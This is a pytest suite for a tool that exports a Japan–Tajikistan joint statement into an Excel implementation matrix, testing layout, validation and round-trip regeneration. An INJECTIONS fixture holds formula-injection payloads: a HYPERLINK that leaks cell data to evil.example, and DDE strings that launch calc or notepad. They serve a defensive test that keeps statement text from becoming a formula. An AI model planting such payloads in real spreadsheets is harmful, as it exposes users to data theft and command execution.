"""The Excel implementation matrix (``--format xlsx``): every test writes a real
workbook and reopens it with openpyxl (or reads its zip) to check what a desk
officer would see, and what survives a regeneration."""

from __future__ import annotations

import re
import subprocess
import sys
import zipfile
from datetime import date, datetime
from pathlib import Path
from typing import Any

import msgspec
import openpyxl
import pytest
from jtreport.digest import digest, milestones
from jtreport.errors import ExportError
from jtreport.exporting import export_to_path
from jtreport.followup import STATUS_COLOURS, STATUS_MEANINGS, STATUSES, FollowUp
from jtreport.formats import ExportOptions
from jtreport.model import (
    CATEGORIES,
    Area,
    DateMention,
    Item,
    Paragraph,
    Party,
    Person,
    Source,
    Statement,
)
from jtreport.plugins.exporters.xlsx_matrix import XlsxExporter
from jtreport.plugins.exporters.xlsx_matrix.layout import HEADERS, MINISTRY_COLUMNS, sheet_name

CREATED = datetime(2026, 1, 15, 10, 30)
#: The sheet of the hand-built statement's area with the longest heading.
HR_SHEET = "Human Resource & Social System…"
HEADER_ROW = 3
FIRST_ROW = 4
INJECTIONS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTab-led text",
    "\rCarriage-return-led text",
    "#N/A",
)


# Building and opening ---------------------------------------------------------------


def item(item_id: str, area: str | None, text: str, **fields: Any) -> Item:
    """An item with sensible defaults."""
    paragraph = fields.pop("paragraph", None)
    if paragraph is None and item_id[0].isdigit():
        paragraph = int(item_id.split(".")[0])
    return Item(
        id=item_id,
        paragraph=paragraph,
        area_id=area,
        text=text,
        actors=fields.pop("actors", ["both"]),
        verb=fields.pop("verb", "welcomed"),
        category=fields.pop("category", "welcome"),
        is_commitment=fields.pop("is_commitment", False),
        **fields,
    )


def hand_statement(extra: tuple[Item, ...] = ()) -> Statement:
    """A small statement with every category, future and past dates, Unicode
    names, hostile texts and a text longer than an Excel cell holds."""
    areas = [
        Area(id="green", heading="Green Economy and Resilience", description="Climate measures"),
        Area(id="links", heading="Connectivity: Enhancing logistics and transport"),
        Area(id="people", heading="Human Resource and Social System Development [HR/Social]"),
        Area(id="other", heading="Cooperation in other fields"),
    ]
    items = [
        item(
            "pre1.1",
            None,
            "The two Leaders concurred on promoting concrete projects.",
            category="agreement",
            is_commitment=True,
            verb="concurred on",
        ),
        item(
            "1.1",
            "green",
            "Japan will provide support to the energy transition roadmap.",
            category="pledge",
            is_commitment=True,
            actors=["Japan"],
            verb="will provide",
            organizations=["JICA"],
            instruments=["grant"],
            dates=[DateMention(text="May 2026", value="2026-05", future=True)],
        ),
        item(
            "1.2",
            "green",
            "Both sides welcomed the signing in September 2023.",
            dates=[DateMention(text="September 2023", value="2023-09", future=False)],
        ),
        item(
            "2.1",
            "green",
            "Both sides appreciated the conference held in 2025.",
            category="appreciation",
        ),
        item(
            "16.2",
            "links",
            "Both sides concurred on launching the Consultations.",
            category="agreement",
            is_commitment=True,
            projects=["Trans-Caspian Route"],
        ),
        item(
            "16.3",
            "links",
            "Both sides expressed their intention to work together.",
            category="intention",
            is_commitment=True,
        ),
        item(
            "20.1",
            "people",
            "Both sides affirmed the importance of Эмомалӣ Раҳмон's "
            "initiative and of 高市早苗's visit.",
            category="affirmation",
        ),
        item("21.1", "people", "x" * 40_000, category="affirmation"),
        item("22.1", "people", "Control\x01characters\x0bremoved.", category="welcome"),
        *(
            item(f"30.{n}", "people", text, category="welcome")
            for n, text in enumerate(INJECTIONS, 1)
        ),
        item(
            "39.1",
            "other",
            "President Эмомалӣ Раҳмон extended an invitation to Prime Minister 高市早苗.",
            category="invitation",
            is_commitment=True,
            actors=["Tajikistan"],
        ),
        *extra,
    ]
    paragraphs = sorted({i.paragraph for i in items if i.paragraph is not None})
    by_number = {i.paragraph: i.area_id for i in items}
    return Statement(
        title="Joint Statement between Japan and the Republic of Tajikistan",
        date="2025-12-20",
        place="Tokyo",
        parties=[
            Party(name="Japan", short_name="Japan"),
            Party(name="Republic of Tajikistan", short_name="Tajikistan"),
        ],
        leaders=[
            Person(name="高市早苗", title="Prime Minister", party="Japan"),
            Person(name="Эмомалӣ Раҳмон", title="President", party="Tajikistan"),
        ],
        areas=areas,
        paragraphs=[
            Paragraph(index=k, number=n, text=f"Paragraph {n}.", area_id=by_number[n])
            for k, n in enumerate(paragraphs, 1)
        ],
        items=items,
        source=Source(path="hand.txt", format="text", sha256="0" * 64),
    )


def export(statement: Statement, target: Path, **options: Any) -> tuple[Path, list[str]]:
    """Export through the core (atomic write, overwrite check); the path and warnings."""
    opts = ExportOptions(destination=target, created=CREATED, **options)
    export_to_path(XlsxExporter(), statement, opts)
    return target, opts.warnings


def headers(ws: Any) -> list[str]:
    """The header row of a data sheet."""
    return [c.value for c in ws[HEADER_ROW] if c.value is not None]


def rows_by_id(ws: Any) -> dict[str, dict[str, Any]]:
    """Data rows keyed by item ID, each as {header: value}."""
    names = headers(ws)
    found: dict[str, dict[str, Any]] = {}
    for row in ws.iter_rows(min_row=FIRST_ROW, values_only=True):
        if row[0] is not None:
            found[str(row[0])] = dict(zip(names, row, strict=False))
    return found


def cell_of(ws: Any, item_id: str, header: str) -> Any:
    """The cell of one item's column."""
    column = headers(ws).index(header) + 1
    for row in range(FIRST_ROW, ws.max_row + 1):
        if ws.cell(row=row, column=1).value == item_id:
            return ws.cell(row=row, column=column)
    raise AssertionError(f"{item_id} is not on {ws.title}")


@pytest.fixture(scope="module")
def bundled_matrix(tmp_path_factory: pytest.TempPathFactory, bundled: Statement) -> Path:
    """The bundled statement's matrix, written once."""
    path, _ = export(bundled, tmp_path_factory.mktemp("bundled") / "matrix.xlsx")
    return path


@pytest.fixture(scope="module")
def bundled_book(bundled_matrix: Path) -> Any:
    return openpyxl.load_workbook(bundled_matrix)


@pytest.fixture(scope="module")
def hand_matrix(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[str]]:
    return export(hand_statement(), tmp_path_factory.mktemp("hand") / "hand.xlsx")


# Sheets and columns -----------------------------------------------------------------


def area_sheets(book: Any) -> list[Any]:
    """The sheets that show an area's items (between All items and Lists)."""
    names = book.sheetnames
    return [book[n] for n in names[names.index("All items") + 1 : names.index("Lists")]]


def test_bundled_sheets_follow_the_statement(bundled_book: Any, bundled: Statement) -> None:
    names = bundled_book.sheetnames
    assert names[:2] == ["Summary", "All items"]
    assert len(bundled.areas) == 4
    assert names[2] == "Preamble"  # the items before the first area have a sheet too
    assert names[3:7] == [sheet_name(a.heading, set()) for a in bundled.areas]
    assert names[6] == "Cooperation in other fields"
    assert names[7:] == ["Lists", "_jtreport"]
    assert bundled_book["_jtreport"].sheet_state == "veryHidden"
    assert [ws.sheet_state for ws in bundled_book.worksheets[:8]] == ["visible"] * 8


def test_all_items_has_every_column_and_area_sheets_the_meeting_ones(bundled_book: Any) -> None:
    expected = [
        "ID", "Text", "Lead agency", "Status", "Due date", "Next step",
        "Priority", "Counterpart agency", "Supporting agencies", "Evidence / source",
        "Last updated", "Notes",
        "Paragraph", "Area", "Category", "Commitment", "Actors", "Review", "Date",
        "Date precision", "Dates", "Organisations", "Instruments", "Projects",
    ]  # fmt: skip
    assert list(HEADERS) == expected
    assert set(MINISTRY_COLUMNS) == set(expected[2:12])
    ws = bundled_book["All items"]
    assert headers(ws) == expected
    assert all(c.font.b for c in ws[HEADER_ROW][: len(expected)])
    for ws in area_sheets(bundled_book):
        assert headers(ws) == [*expected[:6], "Row on All items"], ws.title
        assert ws.column_dimensions["G"].hidden


def test_every_item_id_is_on_all_items_and_its_area_sheet(
    bundled_book: Any, bundled: Statement
) -> None:
    all_items = bundled_book["All items"]
    ids = [r[0] for r in all_items.iter_rows(min_row=FIRST_ROW, values_only=True)]
    assert ids == [i.id for i in bundled.items]
    sections = [items for _, items in bundled.sections()]
    for items, ws in zip(sections, area_sheets(bundled_book), strict=True):
        on_sheet = [r[0] for r in ws.iter_rows(min_row=FIRST_ROW, values_only=True)]
        assert on_sheet == [i.id for i in items], ws.title


def test_item_rows_say_what_the_model_says(bundled_book: Any, bundled: Statement) -> None:
    rows = rows_by_id(bundled_book["All items"])
    for it in bundled.items:
        row = rows[it.id]
        assert row["Text"] == it.text
        assert row["Paragraph"] == it.paragraph
        assert row["Category"] == it.category.capitalize()
        assert row["Commitment"] == ("Yes" if it.is_commitment else "No")
        for name, values in (("Organisations", it.organizations), ("Projects", it.projects)):
            assert all(v in (row[name] or "") for v in values)
        for mention in it.dates:
            # both ends of a range share its words: a mention is its words and value
            shown = f"{mention.text} ({mention.value})"
            assert shown in row["Dates"]
            assert (f"→ {shown}" in row["Dates"]) == bool(mention.future)
        assert all(row[c] is None for c in MINISTRY_COLUMNS)


def test_statement_dates_are_dates_with_their_precision(
    bundled_book: Any, bundled: Statement
) -> None:
    ws = bundled_book["All items"]
    dated = [it for it in bundled.items if it.dates]
    assert dated
    for it in dated:
        cell = cell_of(ws, it.id, "Date")
        precision = cell_of(ws, it.id, "Date precision").value
        ahead = [d for d in it.dates if d.future] or it.dates
        value = ahead[0].value
        assert isinstance(cell.value, datetime), (it.id, cell.value)
        assert cell.value.date().isoformat().startswith(value)
        expected = {4: "year", 7: "month", 10: None}[len(value)]
        assert precision == expected
        assert cell.number_format == {4: "yyyy", 7: "mmm yyyy", 10: "d mmm yyyy"}[len(value)]
    # sortable: every Date cell is a date or empty
    dates = [c.value for c in ws[openpyxl.utils.get_column_letter(headers(ws).index("Date") + 1)]]
    assert all(v is None or isinstance(v, datetime) for v in dates[FIRST_ROW - 1 :])


def validations(ws: Any) -> dict[str, Any]:
    """The data validations of a sheet by the header of the first column they cover."""
    found: dict[str, Any] = {}
    names = headers(ws)
    for validation in ws.data_validations.dataValidation:
        for ref in str(validation.sqref).split():
            letter = "".join(ch for ch in ref.split(":")[0] if ch.isalpha())
            found[names[openpyxl.utils.column_index_from_string(letter) - 1]] = validation
    return found


def test_drop_downs_and_dates_are_validated(bundled_book: Any) -> None:
    ws = bundled_book["All items"]
    rules = validations(ws)
    assert rules["Status"].formula1.strip('"').split(",") == list(STATUSES)
    assert rules["Status"].showErrorMessage and rules["Status"].errorStyle in (None, "stop")
    assert rules["Priority"].formula1 == '"High,Medium,Low"'
    assert rules["Category"].formula1.strip('"').split(",") == [c.capitalize() for c in CATEGORIES]
    assert rules["Commitment"].formula1 == '"Yes,No"'
    assert rules["Lead agency"].formula1 == "jt_lead_agencies"
    assert rules["Lead agency"].errorStyle == "warning"  # a new agency may be typed
    assert rules["Counterpart agency"].formula1 == "jt_counterpart_agencies"
    for header in ("Due date", "Last updated"):
        assert rules[header].type == "date" and rules[header].errorStyle in (None, "stop")
    status = openpyxl.utils.get_column_letter(headers(ws).index("Status") + 1)
    assert f"{status}{FIRST_ROW}" in rules["Status"].sqref
    assert f"{status}{ws.max_row}" in rules["Status"].sqref
    names = bundled_book.defined_names
    assert "OFFSET('Lists'!$A$2" in names["jt_lead_agencies"].attr_text
    # an area sheet refuses typing, pointing to All items
    for area in area_sheets(bundled_book):
        (refusal,) = area.data_validations.dataValidation
        assert refusal.type == "custom" and "All items" in refusal.error


def test_status_colours_overdue_and_commitment_highlight(bundled_book: Any) -> None:
    for ws in (bundled_book["All items"], *area_sheets(bundled_book)):
        rules = [(str(cf.sqref), r) for cf in ws.conditional_formatting for r in cf.rules]
        fills = {
            r.formula[0].strip('"'): r.dxf.fill.fgColor.rgb[-6:]
            for ref, r in rules
            if r.type == "cellIs"
        }
        assert fills == STATUS_COLOURS, ws.title
        due = openpyxl.utils.get_column_letter(headers(ws).index("Due date") + 1)
        overdue = [r for ref, r in rules if ref.startswith(due) and r.type == "expression"]
        assert overdue and "<jt_as_of" in overdue[0].formula[0]
        assert '"Completed"' in overdue[0].formula[0] and '"Cancelled"' in overdue[0].formula[0]
        assert "jt_due_soon_days" in overdue[1].formula[0]
        highlight = [r for ref, r in rules if ref.startswith("A") and '="Yes"' in r.formula[0]]
        assert highlight and highlight[0].dxf.font.b, ws.title
    as_of = bundled_book.defined_names["jt_as_of"].attr_text
    sheet, cell = as_of.split("!")
    assert bundled_book[sheet.strip("'")][cell.replace("$", "")].value == datetime(1980, 1, 1)


def test_every_sheet_shares_one_differential_style_per_look(
    bundled_matrix: Path, bundled_book: Any
) -> None:
    # the eight status colours, overdue, due soon, a commitment's ID and its text:
    # written once in styles.xml however many sheets colour their rows
    with zipfile.ZipFile(bundled_matrix) as archive:
        styles = archive.read("xl/styles.xml").decode("utf-8")
    assert styles.count("<dxf>") == len(STATUSES) + 4
    coloured = [bundled_book["All items"], *area_sheets(bundled_book)]
    assert len(coloured) > 2
    used = {r.dxfId for ws in coloured for cf in ws.conditional_formatting for r in cf.rules}
    assert used == set(range(len(STATUSES) + 4))


def test_the_marker_keys_are_read_without_the_item_records(bundled_matrix: Path) -> None:
    from jtreport.plugins.exporters.xlsx_matrix.marker import read_marker

    with zipfile.ZipFile(bundled_matrix) as archive:
        whole = read_marker(archive)
        keys = read_marker(archive, items=False)
    assert whole is not None and keys is not None
    assert len(whole.written) > 50 and keys.written == {}
    assert keys.values == whole.values and "sheet.items" in keys.values


def test_frozen_header_table_and_print_setup(bundled_book: Any) -> None:
    for ws in (bundled_book["All items"], *area_sheets(bundled_book)):
        assert ws.freeze_panes == f"C{FIRST_ROW}"
        assert ws.print_title_rows == f"${HEADER_ROW}:${HEADER_ROW}"
        setup = ws.page_setup
        assert setup.orientation == "landscape" and setup.paperSize == 9
        assert not ws.sheet_properties.pageSetUpPr.fitToPage
        assert int(setup.scale) >= 80, ws.title  # 10 pt text prints at 8 pt or more
        assert ws.print_area.endswith(f"$A$1:$F${ws.max_row}"), ws.print_area
        (table,) = ws.tables.values()
        assert table.ref.startswith(f"A{HEADER_ROW}:") and table.ref.endswith(str(ws.max_row))
        assert ws.column_dimensions["B"].width >= 50  # the text column
        long_text = [c for c in ws["B"][FIRST_ROW - 1 :] if c.value and len(c.value) > 200]
        assert all(c.alignment.wrap_text for c in long_text)
        assert all(ws.row_dimensions[c.row].height > 30 for c in long_text)


def test_the_documented_rows_are_the_real_ones(bundled_book: Any, bundled: Statement) -> None:
    """docs/matrix.md tells a program where to find the headers and the items:
    title on row 1, subtitle on row 2, headers on row 3, items from row 4."""
    doc = Path(__file__).resolve().parents[1] / "docs" / "matrix.md"
    text = " ".join(doc.read_text(encoding="utf-8").split())
    header_row = int(re.search(r"\*\*The header row is row (\d+)\*\*", text).group(1))
    first_row = int(re.search(r"the items start on row (\d+)", text).group(1))
    titles = [bundled.title, *(d.label for d in digest(bundled))]
    for ws, title in zip(
        (bundled_book["All items"], *area_sheets(bundled_book)), titles, strict=True
    ):
        assert ws.cell(row=1, column=1).value == title
        subtitle = ws.cell(row=2, column=1).value
        assert re.search(r"\d+ items?, \d+ commitments?", subtitle), subtitle
        assert [c.value for c in ws[header_row]][:2] == ["ID", "Text"]
        ids = [ws.cell(row=r, column=1).value for r in range(first_row, ws.max_row + 1)]
        assert ids and set(ids) <= {i.id for i in bundled.items}, ws.title
        if ws.title == "All items":
            assert ids == [i.id for i in bundled.items]


def test_analysis_columns_are_grouped_on_screen(bundled_book: Any) -> None:
    ws = bundled_book["All items"]
    names = headers(ws)
    grouped = {
        names[openpyxl.utils.column_index_from_string(letter) - 1]
        for letter, dim in ws.column_dimensions.items()
        if dim.outlineLevel
    }
    assert {"Paragraph", "Review", "Projects"} <= grouped
    assert not grouped & {"ID", "Text", "Status", "Notes"}
    assert not any(ws.column_dimensions[c].hidden for c in "ABCDEFGHIJKLMN")


def test_due_dates_are_formatted_as_dates(bundled_book: Any) -> None:
    ws = bundled_book["All items"]
    due = headers(ws).index("Due date")
    assert ws.cell(row=FIRST_ROW, column=due + 1).number_format == "yyyy-mm-dd"


def test_summary_sheet(bundled_book: Any, bundled: Statement) -> None:
    ws = bundled_book["Summary"]
    values = [c for row in ws.iter_rows(values_only=True) for c in row if c is not None]
    assert values[0] == bundled.title
    assert datetime(2025, 12, 20) in values
    assert any("Republic of Tajikistan" in str(v) for v in values)
    assert any("TAKAICHI" in str(v) for v in values)
    rows = [list(r) for r in ws.iter_rows(values_only=True)]
    start = next(
        n
        for n, r in enumerate(rows)
        if r[0] == "Paragraphs, items and commitments by area and category"
    )
    for group in digest(bundled):
        (row,) = [r for r in rows[start:] if r[0] == group.label and isinstance(r[1], int)][:1]
        assert row[1:4] == [group.paragraphs, len(group.items), len(group.commitments)]
    (total,) = [r for r in rows if r[0] == "Whole statement"]
    assert total[1:4] == [len(bundled.paragraphs), len(bundled.items), len(bundled.commitments)]
    upcoming = milestones(bundled)
    assert upcoming
    for milestone in upcoming:
        # one row per item and date: every wording of that date is on it
        (row,) = [
            r
            for r in rows
            if isinstance(r[0], str)
            and milestone.date.text in r[0].split("; ")
            and r[3] == milestone.item.id
        ]
        assert isinstance(row[1], datetime)
        assert row[1].date().isoformat().startswith(milestone.date.value)
    for status, meaning in STATUS_MEANINGS.items():
        (row,) = [r for r in rows if r[0] == status and isinstance(r[1], str)]
        assert row[1].rstrip(".").casefold() == meaning.casefold()
    formulas = [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert any("SUMPRODUCT((jt_area=$A" in c.value for c in formulas)


def test_workbook_properties(bundled_book: Any, bundled: Statement) -> None:
    props = bundled_book.properties
    assert props.title == bundled.title
    assert "Implementation matrix" in props.subject
    assert "implementation matrix" in props.keywords and "Japan" in props.keywords
    assert props.created == CREATED and props.modified == CREATED


# Safe cells --------------------------------------------------------------------------


def test_statement_text_is_never_a_formula(hand_matrix: tuple[Path, list[str]]) -> None:
    path, _ = hand_matrix
    book = openpyxl.load_workbook(path)
    for ws in (book["All items"], book[HR_SHEET]):
        for number, text in enumerate(INJECTIONS, 1):
            cell = cell_of(ws, f"30.{number}", "Text")
            assert cell.data_type == "s", (ws.title, text)
            assert cell.value == text
            if text[0] in "=+-@\t\r":
                assert cell.quotePrefix, text
    # the only formulas are jtreport's own (the area sheets show All items): none
    # holds statement text
    import re

    with zipfile.ZipFile(path) as archive:
        for entry in archive.namelist():
            if entry.startswith("xl/worksheets/sheet") and entry != "xl/worksheets/sheet1.xml":
                for formula in re.findall(rb"<f>(.*?)</f>", archive.read(entry)):
                    assert b"jt_" in formula, (entry, formula)
                    assert not any(t.encode()[:12] in formula for t in INJECTIONS)


def test_cells_respect_excel_limits(hand_matrix: tuple[Path, list[str]]) -> None:
    path, warnings = hand_matrix
    book = openpyxl.load_workbook(path)
    ws = book["All items"]
    long_cell = cell_of(ws, "21.1", "Text").value
    assert len(long_cell) == 32_767 and long_cell.endswith("[…]")
    assert any("32,767" in w for w in warnings)
    assert cell_of(ws, "22.1", "Text").value == "Controlcharactersremoved."
    assert "Эмомалӣ Раҳмон" in cell_of(ws, "20.1", "Text").value
    assert "高市早苗" in cell_of(ws, "39.1", "Text").value


def test_sheet_names_are_valid_and_unique(hand_matrix: tuple[Path, list[str]]) -> None:
    book = openpyxl.load_workbook(hand_matrix[0])
    assert book.sheetnames[2:7] == [
        "Preamble",
        "Green Economy and Resilience",
        "Connectivity",
        HR_SHEET,
        "Cooperation in other fields",
    ]
    taken: set[str] = set()
    # the whole heading where Excel allows it (31 characters, no colon or slash)
    assert sheet_name("Trade: Investment", taken) == "Trade - Investment"
    assert sheet_name("Cooperation in other fields", taken) == "Cooperation in other fields"
    # else a readable short form: before the colon, "&", people's abbreviations
    assert sheet_name("Connectivity: Enhancing logistics and transport", taken) == "Connectivity"
    assert sheet_name("Economic Cooperation and International Development", taken) == (
        "Econ. Coop. & Int'l Dev."
    )
    assert sheet_name("Enhancing Energy Security and Combating Climate Change", taken) == (
        "Enhancing Energy Security…"
    )
    assert sheet_name("a", taken) == "a"
    assert sheet_name("A", taken) == "A (2)"
    assert sheet_name("x" * 40, taken) == "x" * 30 + "…"
    assert all(len(n) <= 31 for n in book.sheetnames)


def test_headers_and_page_headers_say_the_whole_area(hand_matrix: tuple[Path, list[str]]) -> None:
    book = openpyxl.load_workbook(hand_matrix[0])
    heading = "Human Resource and Social System Development [HR/Social]"
    ws = book[HR_SHEET]
    assert ws["A1"].value == heading
    assert ws.oddHeader.center.text == heading
    assert book["All items"].oddHeader.center.text == "All items"


def test_same_input_same_bytes(tmp_path: Path) -> None:
    first, _ = export(hand_statement(), tmp_path / "a.xlsx")
    second, _ = export(hand_statement(), tmp_path / "b.xlsx")
    assert first.read_bytes() == second.read_bytes()
    with zipfile.ZipFile(first) as archive:
        assert {i.date_time for i in archive.infolist()} == {(2026, 1, 15, 10, 30, 0)}
    # ...also from another interpreter (hash seeds differ between processes)
    code = (
        "import sys; sys.path.insert(0, sys.argv[1]); from pathlib import Path;"
        "from tests.test_xlsx import export, hand_statement;"
        "export(hand_statement(), Path(sys.argv[2]))"
    )
    root = str(Path(__file__).resolve().parents[1])
    subprocess.run([sys.executable, "-c", code, root, str(tmp_path / "c.xlsx")], check=True)
    assert (tmp_path / "c.xlsx").read_bytes() == first.read_bytes()


# The round trip ----------------------------------------------------------------------


def fill(path: Path, entries: dict[tuple[str, str, str], Any]) -> None:
    """Type values as a user would: {(sheet, item ID, header): value}; save."""
    book = openpyxl.load_workbook(path)
    for (sheet, item_id, header), value in entries.items():
        ws = book[sheet]
        if header not in headers(ws):
            ws.cell(row=HEADER_ROW, column=len(headers(ws)) + 1, value=header)
        cell = cell_of(ws, item_id, header)
        cell.value = value
        if isinstance(value, str) and value.startswith("="):
            cell.data_type = "s"
    book.save(path)


def test_regenerating_keeps_every_typed_value(tmp_path: Path, bundled: Statement) -> None:
    path, _ = export(bundled, tmp_path / "matrix.xlsx")
    areas = [ws.title for ws in area_sheets(openpyxl.load_workbook(path))]
    commitments = bundled.commitments
    typed: dict[tuple[str, str, str], Any] = {}
    for n, it in enumerate(commitments):
        typed[("All items", it.id, "Status")] = STATUSES[n % len(STATUSES)]
        typed[("All items", it.id, "Notes")] = f"Note on {it.id}: Эмомалӣ / 高市"
        typed[("All items", it.id, "Lead agency")] = "MOFA"
        typed[("All items", it.id, "Priority")] = "High"
        typed[("All items", it.id, "Evidence / source")] = "Note verbale 12/2026"
    first, second = commitments[0], commitments[1]
    typed[("All items", first.id, "Due date")] = datetime(2026, 3, 31)
    typed[("All items", first.id, "Last updated")] = datetime(2026, 1, 10)
    typed[("All items", second.id, "Due date")] = "Q2 2026"
    typed[("All items", second.id, "Next step")] = "=call the embassy"
    typed[("All items", first.id, "Desk officer")] = "Ms Sato"  # a column the user added
    fill(path, typed)

    _, warnings = export(bundled, path)
    assert warnings == [
        f"the due date of item(s) {second.id} is text, not a date: kept as typed, but it "
        "cannot be sorted or flagged overdue (type a date to fix it)"
    ]
    book = openpyxl.load_workbook(path)
    all_items = rows_by_id(book["All items"])
    for (_, item_id, header), value in typed.items():
        assert all_items[item_id][header] == value, (item_id, header)
    # the area sheets show what is typed on All items (as their formulas' values)
    shown = openpyxl.load_workbook(path, data_only=True)
    for sheet in areas:
        for item_id, row in rows_by_id(shown[sheet]).items():
            for header in ("Lead agency", "Status", "Due date", "Next step"):
                assert (row[header] or "") == (all_items[item_id][header] or ""), (sheet, item_id)
    assert cell_of(book["All items"], second.id, "Next step").data_type == "s"
    assert "Archived" not in book.sheetnames

    # ...and a third time: still the same values, nothing archived
    export(bundled, path)
    assert rows_by_id(openpyxl.load_workbook(path)["All items"]) == all_items


def test_a_value_typed_on_an_area_sheet_goes_to_all_items(
    tmp_path: Path, bundled: Statement
) -> None:
    """Typing on an area sheet replaces the formula that shows All items: the value
    is kept, moved to All items (where the Summary counts it) with a warning."""
    path, _ = export(bundled, tmp_path / "matrix.xlsx")
    last = bundled.items[-1]
    sheet = area_sheets(openpyxl.load_workbook(path))[-1].title
    fill(path, {(sheet, last.id, "Lead agency"): "JICA", (sheet, last.id, "Status"): "Planned"})
    export(bundled, path)
    book = openpyxl.load_workbook(path)
    assert cell_of(book["All items"], last.id, "Lead agency").value == "JICA"
    assert cell_of(book["All items"], last.id, "Status").value == "Planned"
    view = cell_of(book[sheet], last.id, "Status")
    assert view.data_type == "f" and "jt_status" in view.value
    assert cell_of(
        openpyxl.load_workbook(path, data_only=True)[sheet], last.id, "Status"
    ).value == ("Planned")


def test_a_value_cleared_on_all_items_stays_cleared(tmp_path: Path, bundled: Statement) -> None:
    path, _ = export(bundled, tmp_path / "matrix.xlsx")
    it = bundled.commitments[0]
    fill(path, {("All items", it.id, "Status"): "Delayed"})
    export(bundled, path)
    fill(path, {("All items", it.id, "Status"): None})  # cleared where it was typed
    export(bundled, path)
    book = openpyxl.load_workbook(path, data_only=True)
    assert cell_of(book["All items"], it.id, "Status").value is None
    for ws in area_sheets(book):
        if it.id in rows_by_id(ws):
            assert cell_of(ws, it.id, "Status").value in (None, "")
    assert "Archived" not in book.sheetnames


def test_removed_item_moves_to_archived(tmp_path: Path, bundled: Statement) -> None:
    path, _ = export(bundled, tmp_path / "matrix.xlsx")
    gone = bundled.commitments[0]
    fill(
        path,
        {
            ("All items", gone.id, "Status"): "Delayed",
            ("All items", gone.id, "Notes"): "Waiting for the Exchange of Notes",
            ("All items", gone.id, "Due date"): datetime(2026, 2, 1),
        },
    )
    smaller = msgspec.structs.replace(bundled, items=[i for i in bundled.items if i != gone])
    _, warnings = export(smaller, path)
    assert any(gone.id in w and "Archived" in w for w in warnings)
    book = openpyxl.load_workbook(path)
    assert gone.id not in rows_by_id(book["All items"])
    archived = rows_by_id(book["Archived"])
    row = archived[gone.id]
    assert row["Status"] == "Delayed"
    assert row["Notes"] == "Waiting for the Exchange of Notes"
    assert row["Due date"] == datetime(2026, 2, 1)
    assert row["Text"] == gone.text
    assert row["Archived on"] == datetime(2026, 1, 15)
    assert "no longer" in row["Reason"]
    # archived rows stay archived on the next regeneration
    export(smaller, path)
    assert rows_by_id(openpyxl.load_workbook(path)["Archived"])[gone.id]["Status"] == "Delayed"


def test_conflicting_values_keep_all_items_and_archive_the_other(tmp_path: Path) -> None:
    path, _ = export(hand_statement(), tmp_path / "matrix.xlsx")
    fill(
        path,
        {
            ("All items", "16.2", "Status"): "Completed",
            ("Connectivity", "16.2", "Status"): "Delayed",
        },
    )
    _, warnings = export(hand_statement(), path)
    assert any("16.2" in w and "differs" in w for w in warnings)
    book = openpyxl.load_workbook(path)
    assert rows_by_id(book["All items"])["16.2"]["Status"] == "Completed"
    shown = openpyxl.load_workbook(path, data_only=True)
    assert rows_by_id(shown["Connectivity"])["16.2"]["Status"] == "Completed"
    archived = rows_by_id(book["Archived"])["16.2"]
    assert archived["Status"] == "Delayed" and "Conflicting" in archived["Reason"]


def test_rows_without_id_and_user_sheets_are_kept(tmp_path: Path) -> None:
    path, _ = export(hand_statement(), tmp_path / "matrix.xlsx")
    book = openpyxl.load_workbook(path)
    ws = book["All items"]
    ws.append([None] * headers(ws).index("Notes") + ["A note typed below the table"])
    contacts = book.create_sheet("Contacts")
    contacts.append(["Name", "Phone"])
    contacts.append(["Ms Sato", "+81 3 1234 5678"])
    book.save(path)
    export(hand_statement(), path)
    book = openpyxl.load_workbook(path)
    assert list(book["Contacts"].values) == [("Name", "Phone"), ("Ms Sato", "+81 3 1234 5678")]
    archived = book["Archived"]
    notes = [
        c.value
        for c in archived[openpyxl.utils.get_column_letter(headers(archived).index("Notes") + 1)]
    ]
    assert "A note typed below the table" in notes


def test_status_seed_from_followup(tmp_path: Path) -> None:
    seed = {"16.2": FollowUp(item_id="16.2", status="Ongoing", due_date=date(2026, 6, 30))}
    path, _ = export(hand_statement(), tmp_path / "m.xlsx", followup=seed)
    row = rows_by_id(openpyxl.load_workbook(path)["All items"])["16.2"]
    assert row["Status"] == "Ongoing" and row["Due date"] == datetime(2026, 6, 30)


def test_file_that_is_not_a_matrix_is_not_overwritten(tmp_path: Path) -> None:
    other = tmp_path / "budget.xlsx"
    book = openpyxl.Workbook()
    book.active["A1"] = "my budget"
    book.save(other)
    before = other.read_bytes()
    assert not XlsxExporter().recognizes(other)
    with pytest.raises(ExportError, match="not written by jtreport"):
        export(hand_statement(), other)
    assert other.read_bytes() == before
    export(hand_statement(), other, force=True)
    assert XlsxExporter().recognizes(other)
    text = tmp_path / "notes.xlsx"
    text.write_text("not a workbook")
    assert not XlsxExporter().recognizes(text)
    assert not XlsxExporter().recognizes(tmp_path / "missing.xlsx")


def test_users_file_is_untouched_when_regeneration_fails(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path, _ = export(hand_statement(), tmp_path / "matrix.xlsx")
    fill(path, {("All items", "1.1", "Notes"): "precious"})
    before = path.read_bytes()

    def broken(*args: Any, **kwargs: Any) -> None:
        raise RuntimeError("disk full")

    from jtreport.plugins.exporters.xlsx_matrix import workbook

    monkeypatch.setattr(workbook, "save_reproducibly", broken)
    with pytest.raises(ExportError, match="disk full"):
        export(hand_statement(), path)
    assert path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["matrix.xlsx"]


def test_read_followup_sees_what_was_typed(tmp_path: Path) -> None:
    path, _ = export(hand_statement(), tmp_path / "matrix.xlsx")
    fill(path, {("Connectivity", "16.3", "Status"): "In progress"})
    records = XlsxExporter().read_followup(path, hand_statement(), [])
    assert records["16.3"].status == "In progress"
    assert not records["1.1"].status


def test_a_long_statement_exports_whole(tmp_path: Path) -> None:
    base = hand_statement()
    items = [
        item(
            f"{p}.{n}",
            base.areas[p % 4].id,
            f"Paragraph {p} item {n}: both sides will act.",
            category="pledge",
            is_commitment=n == 1,
            paragraph=p,
            dates=[DateMention(text="2027", value="2027", future=True)],
        )
        for p in range(1, 3901)
        for n in (1, 2)
    ]
    big = msgspec.structs.replace(base, items=items)
    path, _ = export(big, tmp_path / "big.xlsx")
    book = openpyxl.load_workbook(path, read_only=True)
